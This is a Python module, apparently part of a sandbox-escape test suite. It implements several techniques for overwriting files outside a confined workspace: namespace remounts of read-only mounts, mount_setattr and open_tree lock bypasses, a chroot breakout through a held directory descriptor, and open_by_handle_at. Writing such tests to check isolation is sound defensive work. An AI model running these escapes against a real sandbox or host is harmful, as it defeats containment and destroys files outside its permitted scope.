"""Ways to change what lies outside the workspace that begin with undoing, moving or going round a mount."""

from __future__ import annotations

import ctypes
import os
import struct

from attack.escapes.deed import ROOT, SOME_HOSTS, Victim, deed
from attack.escapes.deeds_files import HARM, overwrite, try_to
from limpet.kernel.syscalls import call

NEW_MOUNTS, NEW_USER = 0x0002_0000, 0x1000_0000
REMOUNT_BOUND = 0x20 | 0x1000
AT_HERE = -100


@deed("files", SOME_HOSTS)
def remount_in_a_user_namespace(victim: Victim) -> None:
    call("unshare", NEW_USER | NEW_MOUNTS)
    call("mount", 0, b"/\0", 0, REMOUNT_BOUND, 0)
    overwrite(victim["file"])


@deed("files", ROOT)
def remount_what_is_read_only(victim: Victim) -> None:
    try_to(lambda: call("unshare", NEW_MOUNTS))  # outside, nothing but this process is to see it
    call("mount", 0, b"/\0", 0, REMOUNT_BOUND, 0)
    overwrite(victim["file"])


@deed("files", ROOT)
def lift_the_lock_of_a_mount(victim: Victim) -> None:
    try_to(lambda: call("unshare", NEW_MOUNTS))
    call("mount_setattr", AT_HERE, b"/\0", 0, struct.pack("=QQQQ", 0, 1, 0, 0), 32)
    overwrite(victim["file"])


@deed("files", ROOT)
def copy_a_mount_without_its_lock(victim: Victim) -> None:
    tree = call("open_tree", AT_HERE, os.fsencode(victim["folder"]) + b"\0", 1)
    os.write(os.open("file", os.O_WRONLY | os.O_TRUNC, dir_fd=tree), HARM)


@deed("files", ROOT)
def break_out_of_a_chroot(victim: Victim) -> None:
    os.mkdir("cage")
    outside = os.open("/", os.O_PATH)
    os.chroot("cage")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    overwrite(victim["file"])


@deed("files", ROOT)
def open_it_by_its_handle(victim: Victim) -> None:
    handle = bytearray(struct.pack("=Ii", 128, 0) + bytes(128))
    held = (ctypes.c_char * len(handle)).from_buffer(handle)
    number = ctypes.c_int()
    path = os.fsencode(victim["file"]) + b"\0"
    call("name_to_handle_at", AT_HERE, path, ctypes.addressof(held), ctypes.addressof(number), 0)
    where = os.open(".", os.O_RDONLY)
    fd = call("open_by_handle_at", where, ctypes.addressof(held), os.O_WRONLY | os.O_TRUNC)
    os.write(fd, HARM)
